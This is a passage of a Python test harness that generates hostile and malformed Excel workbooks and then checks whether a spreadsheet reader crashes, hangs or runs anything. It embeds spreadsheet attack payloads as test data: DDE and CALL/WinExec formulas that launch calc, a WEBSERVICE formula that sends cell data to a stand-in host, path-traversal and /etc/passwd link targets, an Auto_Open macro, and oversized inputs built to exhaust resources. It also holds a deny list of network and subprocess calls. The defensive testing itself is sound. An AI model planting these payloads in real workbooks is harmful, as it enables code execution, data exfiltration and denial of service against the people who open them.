            f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>'
            + _filled(4_001, 100)
            .replace("</", "</x:")
            .replace("<c", "<x:c")
            .replace("<r", "<x:r")
            .replace("<v", "<x:v")
            + "</x:sheetData></x:worksheet>"
        ).encode(),
    )

    def together() -> bytes:
        members = {**book(), **{f"xl/worksheets/s{n}.xml": sheet_xml(_filled(1_000, 100)) for n in range(5)}}
        members[WORKBOOK] = workbook_xml((f"L{n}", f"s{n}") for n in range(5))
        members[WORKBOOK_RELS] = relations(
            *((f"s{n}", "worksheet", f"worksheets/s{n}.xml") for n in range(5))
        )
        return pack(members)

    case("sel-semua-lembar", "BERKAS23", "five sheets of 100,000 cells each", together)
    for count in (257, 5_000):
        parts(
            f"lembar-{count}",
            "BERKAS24",
            "more sheets than any book has",
            WORKBOOK=workbook_xml((f"L{n}", "rId1") for n in range(count)),
        )
    parts(
        "lembar-satu-bagian",
        "BERKAS11",
        "two hundred sheets that are all the same part",
        WORKBOOK=workbook_xml((f"L{n}", "rId1") for n in range(200)),
        SHEET=lambda: sheet_xml(_filled(300, 100)),
    )

    def namesakes() -> bytes:
        members = {**book(), "xl/worksheets/sheet2.xml": sheet_xml("")}
        members[WORKBOOK] = workbook_xml([("Data", "rId1"), ("data", "rId4")])
        end, link = b"</Relationships>", f'<Relationship Id="rId4" Type="{LINKS}/worksheet" Target='
        link += '"worksheets/sheet2.xml"/>'
        members[WORKBOOK_RELS] = members[WORKBOOK_RELS].replace(end, link.encode() + end)
        return pack(members)

    case("lembar-senama", "BERKAS11", "two sheets of one name", namesakes)
    hidden = "columns that are hidden a hundred thousand times over"
    cols = '<col min="1" max="16384" hidden="1"/>' * 100_000
    frame("kolom-berulang", "BERKAS11", hidden, "", f"<cols>{cols}</cols>")
    frame("kolom-teks", "BERKAS11", "no number", "", '<cols><col min="satu" max="2" hidden="1"/></cols>')
    frame(
        "kolom-jauh",
        "BERKAS21",
        "no such column",
        "",
        '<cols><col min="1" max="99999999999" hidden="1"/></cols>',
    )
    areas = " ".join(f"A{n}" for n in range(1, 100_001))
    frame(
        "validasi-banyak",
        READ,
        "a rule for a hundred thousand areas is a long text",
        f'<dataValidations><dataValidation type="list" sqref="{areas}"><formula1>"a"</formula1>'
        "</dataValidation></dataValidations>",
    )
    frame(
        "format-bersyarat-banyak",
        READ,
        "the same for a conditional format",
        f'<conditionalFormatting sqref="{areas}"><cfRule type="expression" priority="1"><formula>1</formula>'
        "</cfRule></conditionalFormatting>",
    )
    brackets = "[" * 300_000
    parts(
        "kode-format-panjang",
        READ,
        "a number format that a naive pattern reads for minutes",
        "teks",
        STYLES=f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="200" formatCode="{brackets}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'.encode(),
    )
    table = f'<table xmlns="{MAIN}" id="1" displayName="T" ref="A1:B2"/>'.encode()
    case(
        "tabel-berulang",
        "BERKAS11",
        "thirty thousand links to one table",
        lambda: with_members(
            Member(TABLE, table),
            Member(
                SHEET_RELS, relations(*((f"t{n}", "table", "../tables/table1.xml") for n in range(30_000)))
            ),
        ),
    )
    heavy = f'<table xmlns="{MAIN}" displayName="T" ref="A1:B2">{"<a/>" * 250_000}</table>'.encode()
    case(
        "tabel-berat-berulang",
        "BERKAS11",
        "two hundred links to one heavy table",
        lambda: with_members(
            Member(TABLE, heavy),
            Member(SHEET_RELS, relations(*((f"t{n}", "table", "../tables/table1.xml") for n in range(200)))),
        ),
    )


def _filled(rows: int, columns: int) -> str:
    """Rows full of numbers."""
    letters = [chr(65 + n // 26 - 1) * (n > 25) + chr(65 + n % 26) for n in range(columns)]
    return "".join(
        f'<row r="{row}">' + "".join(f'<c r="{c}{row}"><v>{row}</v></c>' for c in letters) + "</row>"
        for row in range(1, rows + 1)
    )


def _contents() -> None:
    for name, index in {
        "lewat": "1",
        "nomor-raksasa": "9" * 5000,
        "negatif": "-1",
        "teks": "nol",
        "pecahan": "0.0",
        "garis": "0_0",
        "arab": "٠",
    }.items():
        cells(
            f"teks-bersama-{name}",
            "BERKAS25",
            "no shared string has this number",
            f'<row r="1"><c r="A1" t="s"><v>{index}</v></c></row>',
        )
    parts(
        "teks-bersama-tiada",
        "BERKAS25",
        "shared strings are used and there are none",
        STRINGS=None,
        WORKBOOK_RELS=relations(("rId1", "worksheet", "worksheets/sheet1.xml")),
    )
    parts(
        "teks-bersama-hampa",
        "BERKAS25",
        "the list is empty",
        STRINGS=f'<sst xmlns="{MAIN}" count="9"/>'.encode(),
    )
    for name, text, shows in (
        ("1e999999", "1e999999", "#NUM!"),
        ("nan", "nan", "#NUM!"),
        ("inf", "-inf", "#NUM!"),
        ("panjang", "1" + "0" * 5000, "#NUM!"),
        ("pecahan-panjang", "0." + "3" * 5000, "0.333333333333333"),
        ("kecil", "1e-999999", "0"),
    ):
        cells(f"angka-{name}", READ, "an odd number", f'<row r="1"><c r="A1"><v>{text}</v></c></row>', shows)
    for name, cell in {
        "garis": '<c r="A1"><v>1_000</v></c>',
        "arab": '<c r="A1"><v>١</v></c>',
        "heksa": '<c r="A1"><v>0x10</v></c>',
        "koma": '<c r="A1"><v>1,5</v></c>',
        "teks": '<c r="A1"><v>satu</v></c>',
        "logika": '<c r="A1" t="b"><v>mungkin</v></c>',
        "jenis": '<c r="A1" t="zzz"><v>1</v></c>',
    }.items():
        cells(f"isi-{name}", "BERKAS11", "no value that Excel writes", f'<row r="1">{cell}</row>')
    escapes = "_x0041__x000D__xD800__x005F_x0042_"
    cells(
        "lolos",
        READ,
        "escapes are text, half a character stays as it is",
        f'<row r="1"><c r="A1" t="str"><v>{escapes}</v></c></row>',
        "A\r_xD800__x0042_",
    )
    for name, formula in {
        "dde": "cmd|'/c calc'!A0",
        "webservice": 'WEBSERVICE("http://contoh.invalid/?"&amp;A2)',
        "luar": "'[1]Lembar 1'!$A$1",
        "panggil": 'CALL("kernel32","WinExec","JC","calc",0)',
        "dalam": "(" * 10_000 + "1" + ")" * 10_000,
        "panjang": "1" + "+1" * 50_000,
        "kurung-siku": "[" * 50_000,
        "kutip": "'" * 50_001,
    }.items():
        cells(
            f"rumus-{name}",
            READ,
            "formulas are text here; nothing is run",
            f'<row r="1"><c r="A1"><f>{formula}</f><v>7</v></c></row>',
            "7",
        )

    def shared(formula: str, rows: int) -> str:
        head = f'<row r="1"><c r="A1"><f t="shared" ref="A1:A{rows}" si="0">{formula}</f><v>7</v></c></row>'
        return head + "".join(
            f'<row r="{n}"><c r="A{n}"><f t="shared" si="0"/><v>7</v></c></row>' for n in range(2, rows + 1)
        )

    cells(
        "rumus-bersama-banyak",
        READ,
        "one formula for a hundred thousand cells",
        lambda: shared("B1*$C$1", 100_000),
        "7",
    )
    cells(
        "rumus-bersama-panjang",
        "BERKAS23",
        "eight thousand letters for a hundred thousand cells are 800 MB",
        lambda: shared("+".join(["B1"] * 2_700), 100_000),
    )
    cells(
        "rumus-bersama-datar",
        "BERKAS23",
        "the same as one long text without a reference",
        lambda: shared('"' + "x" * 8_000 + '"', 100_000),
    )
    for name, formula in {
        "siku": "[" * 300_000,
        "kutip": "'" * 7_999,
        "kutip-ganda": '"' * 7_999,
        "kurung": "(" * 8_000,
        "titik-dua": "A1:" * 8_000,
    }.items():
        cells(
            f"rumus-bersama-{name}",
            READ,
            "no formula at all, and no reason to be slow",
            shared(formula, 3),
            "7",
        )
    cells(
        "rumus-bersama-yatim",
        "BERKAS11",
        "a shared formula without its first cell",
        '<row r="1"><c r="A1"><f t="shared" si="7"/><v>1</v></c></row>',
    )
    cells(
        "larik-luas",
        READ,
        "an array formula over the whole sheet is one statement",
        '<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">B1</f><v>7</v></c></row>',
        "7",
    )
    cells(
        "larik-luar",
        "BERKAS21",
        "an array formula off the sheet",
        '<row r="1"><c r="A1"><f t="array" ref="A1:XFE1">B1</f><v>7</v></c></row>',
    )
    cells(
        "larik-banyak",
        READ,
        "twenty thousand array formulas with a cell each below",
        lambda: "".join(
            f'<row r="{n}"><c r="A{n}"><f t="array" ref="A{n}:B{n}">C1</f><v>7</v></c><c r="B{n}"><v>7</v></c></row>'
            for n in range(1, 20_001)
        ),
        "7",
    )
    names = "".join(f'<definedName name="N{n}">{f"N{n - 1}+" * 10}1</definedName>' for n in range(1, 2_000))
    parts(
        "nama-meledak",
        READ,
        "names that name names are texts",
        "teks",
        WORKBOOK=workbook_xml(after=f"<definedNames>{names}</definedNames>"),
    )
    loop = "".join(
        f'<definedName name="{name}">{target}</definedName>'
        for name, target in {
            "JENIS_BUKU": "Data!$A$1:$XFD$1048576",
            "TAHUN": "TAHUN",
            "ATURAN_TAHUN": "'http://contoh.invalid/[x.xlsx]L'!$A$1",
        }.items()
    )
    parts(
        "nama-luas",
        READ,
        "official names that mean a whole sheet, themselves, and something far away",
        "teks",
        WORKBOOK=workbook_xml(after=f"<definedNames>{loop}</definedNames>"),
    )


def _links() -> None:
    lost = "a part is missing or is not what it should be"
    strings = ("rId3", "sharedStrings", "sharedStrings.xml")
    parts("tanpa-jenis", "BERKAS09", "an archive without the list of its parts", TYPES=None)
    parts("tanpa-tautan", "BERKAS09", "an archive without its first links", RELS=None)
    for name in ("WORKBOOK", "SHEET", "STYLES", "STRINGS", "WORKBOOK_RELS"):
        parts(f"tanpa-{name.lower().replace('_', '-')}", "BERKAS11", lost, **{name: None})
    parts("tautan-hampa", "BERKAS11", lost, RELS=relations())
    parts(
        "tautan-utama-berputar", "BERKAS11", lost, RELS=relations(("rId1", "officeDocument", "_rels/.rels"))
    )
    for name, target in {
        "berputar": "workbook.xml",
        "sendiri": "_rels/workbook.xml.rels",
        "naik": "../../../../../../etc/passwd",
        "berkas": "file:///etc/passwd",
        "jaringan": "http://contoh.invalid/sheet1.xml",
        "unc": "\\\\contoh.invalid\\bagi\\sheet1.xml",
        "hampa": "",
        "gaya": "styles.xml",
    }.items():
        parts(
            f"tautan-lembar-{name}",
            "BERKAS11",
            lost,
            WORKBOOK_RELS=relations(("rId1", "worksheet", target), strings),
        )
    parts(
        "tautan-lembar-luar",
        "BERKAS11",
        "a sheet that lies elsewhere",
        WORKBOOK_RELS=relations(
            ("rId1", "worksheet", "http://contoh.invalid/x"), mode=' TargetMode="External"'
        ),
    )
    parts(
        "tautan-senomor",
        "BERKAS11",
        "two links of one number",
        WORKBOOK_RELS=relations(
            ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId1", "styles", "styles.xml"), strings
        ),
    )
    parts(
        "tautan-lembar-jenis",
        "BERKAS11",
        "a sheet of a kind that nobody knows",
        WORKBOOK_RELS=relations(("rId1", "apa", "worksheets/sheet1.xml"), strings),
    )
    parts("tanpa-lembar", "BERKAS11", "a workbook without a sheet is none", WORKBOOK=workbook_xml(()))
    parts("lembar-tak-tertaut", "BERKAS11", lost, WORKBOOK=workbook_xml([("Data", "rId77")]))
    for name, target in {
        "lembar": "sheet1.xml",
        "tiada": "../tables/x.xml",
        "workbook": "../workbook.xml",
    }.items():
        links = relations(("t1", "table", target))
        case(
            f"tautan-tabel-{name}",
            "BERKAS11",
            lost,
            lambda r=links: with_members(Member(SHEET_RELS, r)),  # type: ignore[misc]
        )
    outside = relations(
        ("h1", "hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("h2", "hyperlink", "http://contoh.invalid/lacak"),
        mode=' TargetMode="External"',
    )
    case(
        "hiperpranala",
        READ,
        "links are for people to click",
        lambda: archive(
            Member(n, c)
            for n, c in {
                **book(
                    SHEET=sheet_xml(
                        '<row r="1"><c r="A1"><v>7</v></c></row>',
                        '<hyperlinks><hyperlink ref="A1" r:id="h1"/><hyperlink ref="B1" r:id="h2"/></hyperlinks>',
                    )
                ),
                SHEET_RELS: outside,
            }.items()
        ),
        "7",
    )
    links = relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        strings,
        ("rId8", "externalLink", "externalLinks/externalLink1.xml"),
        ("rId9", "connections", "connections.xml"),
    )
    elsewhere = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{LINKS}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="L"/></sheetNames></externalBook></externalLink>'
    )
    query = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="x" type="4" refreshOnLoad="1">'
        '<webPr url="http://contoh.invalid/x" xml="1"/></connection></connections>'
    )
    case(
        "tautan-luar",
        READ,
        "external books and queries are not followed",
        lambda: pack(
            {
                **book(WORKBOOK_RELS=links),
                "xl/externalLinks/externalLink1.xml": elsewhere.encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("rId1", "externalLinkPath", "http://contoh.invalid/x.xlsx"),
                    mode=' TargetMode="External"',
                ),
                "xl/connections.xml": query.encode(),
            }
        ),
        "teks",
    )
    macro = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b'Sub Auto_Open()\r\nShell "calc"\r\nEnd Sub\r\n'
    )
    case(
        "makro",
        READ,
        "macros are bytes like others",
        lambda: pack(
            {
                **book(
                    TYPES=book()[TYPES]
                    .replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")
                    .replace(b"openxmlformats-officedocument.ms-excel", b"ms-excel"),
                    WORKBOOK_RELS=relations(
                        ("rId1", "worksheet", "worksheets/sheet1.xml"),
                        strings,
                        ("rId9", "vbaProject", "vbaProject.bin"),
                    ),
                ),
                "xl/vbaProject.bin": macro,
            }
        ),
        "teks",
        suffix=".xlsm",
    )


def _official_books() -> None:
    """A real book of the office, spoiled where the checks look."""

    def official(change: Callable[[str], str], ending: str) -> bytes:
        with zipfile.ZipFile(EXAMPLES / "RAPK-2023.xlsx") as found:
            members = {name: found.read(name) for name in found.namelist()}
        for name, content in members.items():
            if (name.startswith("xl/worksheets/sheet") and ending == SHEET) or name == ending:
                members[name] = change(content.decode()).encode()
        return pack(members)

    deep = "<f>" + "(" * 8_000 + "1" + ")" * 8_000 + "</f>"
    calls = "<f>" + "IF(" * 2_000 + "1" + ",1,1)" * 2_000 + "</f>"
    for name, formula in {
        "dalam": deep,
        "bertingkat": calls,
        "hampa": "<f></f>",
        "siku": f"<f>{'[' * 8000}</f>",
    }.items():

        def formulas(text: str, formula: str = formula) -> str:
            return re.sub(r"<f>[^<]*</f>", lambda _: formula, text, count=12)

        case(
            f"resmi-rumus-{name}",
            READ,
            "official formulas replaced by senseless ones",
            lambda f=formulas: official(f, SHEET),  # type: ignore[misc]
        )
    huge = "".join(f"<v>{'9' * 300}</v>" for _ in range(1))

    def numbers(text: str) -> str:
        return re.sub(r"<v>\d+(?:\.\d+)?</v>", huge, text)

    def years(text: str) -> str:
        return text.replace("<v>2023</v>", "<v>99999999999999999999</v>")

    def names(text: str) -> str:
        return re.sub(r"(<definedName [^>]*>)[^<]*<", r"\g<1>Aturan!$A$1:$XFD$1048576<", text)

    case("resmi-angka-raksasa", READ, "every number has 300 digits", lambda: official(numbers, SHEET))
    case("resmi-tahun-raksasa", READ, "a year that no calendar has", lambda: official(years, SHEET))
    case("resmi-nama-luas", READ, "every name means a whole sheet", lambda: official(names, WORKBOOK))


for _group in (
    _what_it_is_not,
    _zip_files,
    _document_types,
    _xml,
    _places,
    _numbers_of_things,
    _contents,
    _links,
    _official_books,
):
    _group()


def make(folder: Path) -> None:
    """Write the whole corpus, every file in a folder of its own."""
    for item in CASES.values():
        home = folder / item.name
        home.mkdir(parents=True)
        item.write(home)


# --- the judge ------------------------------------------------------------------------------------------

HANG = 20
"""Seconds after which a case is ended; far above what is allowed, so that the time is known."""

MEMORY = 1 << 30
"""Bytes of address space of a case's process: what it may ask for before it fails."""

_FORBIDDEN = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.spawn")
_FORBIDDEN += (
    "ctypes.",
    "urllib.",
    "ftplib.",
    "http.",
    "smtplib.",
    "tempfile.",
    "os.startfile",
    "webbrowser.",
)
_WRITES = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC


def _watch(misdeeds: list[str]) -> None:
    """Note every event of the interpreter that reading a file must not cause."""

    def hook(event: str, arguments: tuple[Any, ...]) -> None:
        if event.startswith(_FORBIDDEN):
            misdeeds.append(event)
        elif event == "open" and isinstance(arguments[2], int) and arguments[2] & _WRITES:
            misdeeds.append(f"open {arguments[0]} for writing")

    sys.addaudithook(hook)


def examine(path: Path) -> dict[str, Any]:
    """Read a file, validate it, save a copy with a changed cell: what came of it. Runs in a process of its own."""
    from lokapom_xl.actions.validate import check_books
    from lokapom_xl.workbook.errors import BookError
    from lokapom_xl.workbook.read import read_book
    from lokapom_xl.workbook.write import Put, Store, save_edits

    misdeeds: list[str] = []
    _watch(misdeeds)
    found: dict[str, Any] = {"code": READ, "shows": None}
    start = time.process_time()  # others may be at work on the machine
    try:
        result: Any = read_book(path)
    except BookError as problem:
        result = problem
        found["code"], found["message"] = problem.code, str(problem)
    found["seconds"] = time.process_time() - start
    found["peak_mb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    first = next(iter(result.sheets.values()), None) if found["code"] == READ else None
    if first is not None:
        cell = first.cells.get((1, 1))
        found["shows"] = None if cell is None else str(cell.value)
    start = time.process_time()
    findings = check_books([result], [path.name]).findings
    found["validate_seconds"] = time.process_time() - start
    found["findings"] = sorted({finding.code for finding in findings})
    found["misdeeds"] = list(misdeeds)  # saving and telling do write
    found["save_seconds"] = 0.0
    if found["code"] == READ and first is not None:
        copy = path.with_name("salinan" + path.suffix)
        entries = [place for place, cell in first.cells.items() if not cell.computed][:3]
        edits: dict[tuple[int, int], Put | Store] = dict.fromkeys([*entries, (3, 3)], Put("isian"))
        # A formula that loses its result also changes the workbook part.
        edits.update({place: Store(None) for place, cell in [*first.cells.items()][:3] if cell.computed})
        start = time.process_time()
        with contextlib.suppress(BookError):
            save_edits(path, copy, {first.name: edits})
        found["save_seconds"] = time.process_time() - start
        if copy.exists():
            saved = read_book(copy).sheets[first.name].cells  # a refusal of what we wrote is a crash
            for place, edit in edits.items():  # a cell without content is no cell
                assert (saved[place].value if place in saved else None) == edit.value, place
            copy.unlink()
    return found


def judge(path: Path) -> dict[str, Any]:
    """`examine` in a forked child with limits; a child that dies or hangs is told as such."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        code = 1
        with contextlib.suppress(BaseException):
            resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
            resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
            try:
                found = examine(path)
            except BaseException as problem:
                import traceback

                text = "".join(traceback.format_exception(problem)[-3:])
                found = {"crash": f"{type(problem).__name__}: {text[-1500:]}"}
            with os.fdopen(writer, "w") as stream:
                json.dump(found, stream)
            code = 0
        os._exit(code)
    os.close(writer)
    ready, _, _ = select.select([reader], [], [], HANG)
    if not ready:
        os.kill(child, signal.SIGKILL)
    with os.fdopen(reader) as stream:
        text = stream.read()
    _, status = os.waitpid(child, 0)
    if not text:
        return {
            "crash": f"tidak selesai dalam {HANG} detik" if not ready else f"berakhir dengan status {status}"
        }
    result: dict[str, Any] = json.loads(text)
    return result


def _prepare() -> None:
    """Everything is imported and warm before a clock runs, and what is there is shared by the children."""
    from lokapom_xl.actions.validate import validate
    from lokapom_xl.workbook import write

    assert write
    validate([EXAMPLES / "RAPK-2023.xlsx"])
    gc.collect()
    gc.freeze()


def main(arguments: list[str]) -> int:
    action, *rest = arguments or [""]
    if action == "make" and len(rest) == 1:
        make(Path(rest[0]))
        for item in CASES.values():
            print(f"{item.code or '(dibaca)':9} {item.name:30} {item.why}")
    elif action == "judge" and len(rest) == 1:
        _prepare()
        for item in CASES.values():
            home = Path(rest[0], item.name)
            found = judge(home / item.file)
            left = sorted(set(os.listdir(home)) - {item.file})
            print(json.dumps({"name": item.name, **found, "left": left}), flush=True)
    elif action == "serve" and not rest:
        _prepare()
        for line in sys.stdin:
            print(json.dumps(judge(Path(line.rstrip("\n")))), flush=True)
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
